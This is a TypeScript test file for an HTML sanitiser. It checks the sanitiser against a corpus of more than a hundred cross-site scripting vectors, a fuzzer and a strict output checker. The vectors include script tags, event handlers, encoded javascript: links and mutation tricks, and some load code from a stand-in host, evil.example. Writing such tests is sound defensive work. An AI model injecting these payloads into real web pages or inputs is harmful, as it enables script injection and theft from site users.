import fc from "fast-check";
import { expect, test } from "vitest";
import { cases } from "../../test/long.ts";
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from "./allowed-html.ts";
import { sanitise } from "./sanitise.ts";

/** Markup that runs code in a browser if any of it is let through. */
const HOSTILE_HTML: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/src=//evil.example>",
  "<script\u000c>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1);//<</script>",
  "<script>alert(1)</script\t\n bar>",
  "<script x>alert(1)</script 1=2",
  "</script><script>alert(1)</script>",
  "<script><!--<script></script>alert(1)//-->",
  "<script type=module>import('//evil.example')</script>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror\u000c=alert(1)>",
  "<img src=x oneonerrorrror=alert(1)>",
  "<img src='x' onerror='alert(1)' alt='\"><script>alert(1)</script>'>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<img src=x:x onerror=alert(1) //",
  "<img \u0000src=x onerror=alert(1)>",
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  "<img srcset=x onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)>",
  "<image src=x onerror=alert(1)>",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=//evil.example/x.js />",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<svg><foreignObject><iframe srcdoc=<script>alert(1)</script>></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  "<math href=javascript:alert(1)>x</math>",
  "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  "<plaintext><img src=x onerror=alert(1)>",
  "<listing><img src=x onerror=alert(1)></listing>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<select><option><script>alert(1)</script></option></select>",
  "<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>",
  "<template><script>alert(1)</script></template>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<iframe onload=alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<embed code=//evil.example/x.swf allowscriptaccess=always>",
  "<object data=javascript:alert(1)>",
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  "<applet code=x.class>",
  "<base href=javascript:alert(1)//>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  "<link rel=import href=//evil.example>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<body onload=alert(1)>",
  "<body background=javascript:alert(1)>",
  "<html onmouseover=alert(1)>",
  "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
  "<bgsound src=javascript:alert(1)>",
  "<layer src=//evil.example></layer>",
  '<br size="&{alert(1)}">',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="behavior:url(#default#time2)" onbegin=alert(1)>x</div>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  "<style>@import'//evil.example/x.css';</style>",
  "<style>*{x:expression(alert(1))}</style>",
  '<xss style="animation-name:x" onanimationstart=alert(1)></xss>',
  "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
  "<input type=image src=javascript:alert(1)>",
  "<input onfocus=alert(1) autofocus>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<form action=javascript:alert(1)><input type=submit></form>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<summary onclick=alert(1)>x</summary>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<audio src onloadstart=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<video poster=javascript:alert(1)//></video>",
  "<keygen autofocus onfocus=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<a href=javascript&colon;alert(1)>x</a>",
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1);">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a onmouseover=alert(1)>x</a>",
  '<a href=# onclick="alert(1)" target=_blank>x</a>',
  '<a href="x" ping=//evil.example download=x>x</a>',
  '<a/href="javascript:alert(1)"/>x',
  '<a href="https://example.com"onclick=alert(1)>x</a>',
  "<a name=getElementById id=body>x</a>",
  "<p id=__proto__ class=constructor name=cookie>x</p>",
  '<b/alt="1"onmouseover=alert(1)//>x</b>',
  "<p/onclick=alert(1)>x",
  "<p\u000bonclick=alert(1)>x",
  '<p ="" =onclick=alert(1)>x</p>',
  "<p '=\"><script>alert(1)</script>'>x</p>",
  "<p title='</p><script>alert(1)</script>'>x</p>",
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  "<p contenteditable onbeforeinput=alert(1) tabindex=1 onfocus=alert(1)>x</p>",
  "<p is=evil-element slot=x part=y popover>x</p>",
  "<p hx-get=/logout hx-trigger=load data-action=x x-on:click=alert(1) @click=alert(1) :href=x v-html=y>x</p>",
  "<!--><script>alert(1)</script>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<![><img src=x onerror=alert(1)>]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  "<? echo('<script>alert(1)</script>'); ?>",
  '<!DOCTYPE x [<!ENTITY y SYSTEM "javascript:alert(1)">]>&y;',
  "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  "<1img src=x onerror=alert(1)>",
  "</ script><img src=x onerror=alert(1)>",
  "<a\u2028href=javascript:alert(1)>x</a>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60script>alert(1)&#60/script>",
  '<table><tr><td><a href="x"><table><svg><a href=javascript:alert(1)>y',
  "<ruby><rt><script>alert(1)</script></rt></ruby>",
  '<a class="embed embed-youtube" href="javascript:alert(1)">x</a>',
  '<a class="embed embed-youtube" href="https://youtube.com.evil.example/">x</a>',
  '<div class="embed embed-link btn" data-embed="javascript:alert(1)">x</div>',
  "<figure><figcaption><img src=x onerror=alert(1)></figcaption></figure>",
];

test("the corpus holds more than a hundred vectors", () => {
  expect(new Set(HOSTILE_HTML).size).toBeGreaterThan(100);
});

test.each(HOSTILE_HTML)("nothing that runs survives of %j", (vector) => {
  expect(faultsOf(sanitise(vector))).toEqual([]);
  expect(faultsOf(sanitise(`<p title="${vector}">${vector}</p><a href="${vector}">x</a>`))).toEqual([]);
});

test("sanitising twice changes nothing, and nothing that runs survives, whatever the markup", () => {
  const anyMarkup = fc.array(anyPiece(), { maxLength: 25 }).map((pieces) => pieces.join(""));
  fc.assert(
    fc.property(anyMarkup, (html) => {
      const once = sanitise(html);
      expect(sanitise(once)).toBe(once);
      expect(faultsOf(once)).toEqual([]);
    }),
    { numRuns: cases(3000, 300) },
  );
});

test.each([
  '<p onclick="x">',
  '<a href="javascript:x">',
  "<svg>",
  "<p id=x>",
  '<p id="x">',
  '<p class="x">',
  "a < b",
  "<!-- a -->",
  '<img src="data:x" />',
])("the check itself finds the fault in %s", (html) => {
  expect(faultsOf(html)).not.toEqual([]);
});

function anyPiece() {
  const tag = fc.constantFrom(
    ...ALLOWED_TAGS,
    ..."script style iframe textarea title svg math select option".split(" "),
    ..."form button template noscript xmp body nobr".split(" "),
  );
  const name = fc.constantFrom(
    ..."href src alt id class style onclick title width rel open srcdoc __proto__".split(" "),
  );
  const known =
    "javascript:x //evil &#106;avascript:x http:foo java\tscript:x https://a.example/?b&c /d h-e hljs cta embed-link";
  const value = fc.oneof(fc.string({ unit: "binary", maxLength: 12 }), fc.constantFrom(...known.split(" ")));
  const attribute = fc.tuple(name, value).map(([key, text]) => `${key}="${text.replaceAll('"', "&quot;")}"`);
  const scraps = '< </ &lt; & &amp &#0; &#x3c; <!-- --> --!> <![CDATA[ ]]> <! <? \0 " >';
  return fc.oneof(
    fc
      .tuple(tag, fc.array(attribute, { maxLength: 3 }))
      .map(([opened, list]) => `<${opened} ${list.join(" ")}>`),
    tag.map((closed) => `</${closed}>`),
    tag.map((empty) => `<${empty}/>`),
    fc.string({ unit: "binary", maxLength: 8 }),
    fc.constantFrom(...scraps.split(" ")),
  );
}

/** In sanitised HTML angle brackets stand around tags only, so that a pattern reads it right. */
function faultsOf(html: string): string[] {
  const tags = html.match(/<[^>]*>/g) ?? [];
  const outside = html.replaceAll(/<[^>]*>/g, "");
  return [...tags.filter((tag) => !isHarmless(tag)), ...(outside.match(/[<>]/g) ?? [])];
}

function isHarmless(tag: string): boolean {
  const [, name = "", attributes = ""] = /^<\/?([a-z0-9]+)(( [a-z]+(="[^"]*")?)*)( \/)?>$/.exec(tag) ?? [];
  if (!ALLOWED_TAGS.includes(name)) return false;
  return [...attributes.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)].every(([, key = "", value = ""]) => {
    if (key === "href" || key === "src") return isHarmlessAddress(value.replaceAll("&amp;", "&"));
    if (key === "id") return value.startsWith("h-");
    if (key === "class") return /^(hljs|language-|cta$|embed embed-[a-z]+)/.test(value);
    return ALLOWED_ATTRIBUTES.includes(key);
  });
}

function isHarmlessAddress(address: string): boolean {
  return ["http:", "https:", "mailto:"].includes(new URL(address, "https://here.invalid/").protocol);
}
